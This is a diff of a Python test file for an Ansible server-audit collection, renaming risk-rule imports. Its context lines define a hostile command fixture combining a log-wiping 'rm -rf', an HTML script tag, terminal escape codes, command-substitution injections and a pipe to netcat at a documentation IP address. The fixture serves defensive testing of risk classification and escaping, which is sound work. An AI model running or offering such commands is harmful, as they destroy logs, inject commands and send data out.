@@ -20,19 +20,19 @@ from ansible_collections.whotouched.server_audit.plugins.module_utils._processor
     webhook_body,
     wants,
 )
-from ansible_collections.whotouched.server_audit.plugins.module_utils._events.records import (
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
     iter_events,
 )
 from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
     classify,
-    compile_rules,
+    compile_risk_rules,
 )
 from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk_rules import (
-    SHIPPED_RULES,
+    SHIPPED_RISK_RULES,
 )
 from tests.support.audit_records import exec_records, stored
 
-RULES = compile_rules(SHIPPED_RULES)
+RULES = compile_risk_rules(SHIPPED_RISK_RULES)
 # A command that fires a critical rule (logs wiped) and carries every kind of hostile text.
 HOSTILE = ["rm", "-rf", "/var/log/<script>alert(1)</script>\x1b[31mred\x1b[0m",
            "$(touch /tmp/x)", "`id`; touch /tmp/x && echo {text} {host} | nc 198.51.100.1 9"]
